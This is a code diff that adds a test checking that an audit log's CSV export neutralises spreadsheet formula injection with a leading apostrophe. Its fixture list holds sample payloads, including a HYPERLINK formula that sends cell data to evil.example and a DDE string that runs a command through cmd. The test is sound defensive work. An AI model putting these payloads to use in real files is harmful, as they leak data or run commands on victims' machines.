@@ -475,6 +475,34 @@ def test_export_round_trip(audited: ProxyThread, tmp_path: Path) -> None:
     assert bad.returncode == 2 and "neither an ISO 8601 time" in bad.stderr
 
 
+async def test_csv_export_is_inert_in_a_spreadsheet(pg: PostgresCluster, tmp_path: Path) -> None:
+    """Cells a spreadsheet would run as a formula (OWASP's prefixes and their full-width forms)
+    are exported with a leading apostrophe; other cells are exported as they are."""
+    config = audited_config(pg, tmp_path)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+                "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]
+    audit = AuditLog(_config(tmp_path / "approvals.sqlite3"))
+    await audit.start({"mode": "test"})
+    for value in formulas:
+        audit.record("statement", {"application_name": value, "statement": value, "tables": [value, "t"],
+                                   "user": value})
+    audit.record("statement", {"application_name": "plain-app", "statement": "SELECT a - b", "wait_seconds": 1.5})
+    await audit.close()
+    out = tmp_path / "audit.csv"
+    result = audit_cli("export", "--config", str(config), "--format", "csv", "--output", str(out))
+    assert result.returncode == 0, result.stderr
+    with out.open(newline="", encoding="utf-8") as f:
+        rows = [r for r in csv.DictReader(f) if r["type"] == "statement"]
+    assert [r["application_name"] for r in rows] == [f"'{v}" for v in formulas] + ["plain-app"]
+    assert [r["statement"] for r in rows] == [f"'{v}" for v in formulas] + ["SELECT a - b"]
+    assert [r["tables"] for r in rows[:-1]] == [f"'{v};t" for v in formulas]
+    assert json.loads(rows[0]["details"]) == {"user": formulas[0]}  # JSON: starts with '{'
+    assert rows[-1]["wait_seconds"] == "1.5"
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+                       for cell in row.values()), row
+
+
 def test_tail_follows_new_events(audited: ProxyThread) -> None:
     config = audited.server.config
     assert config.source is not None
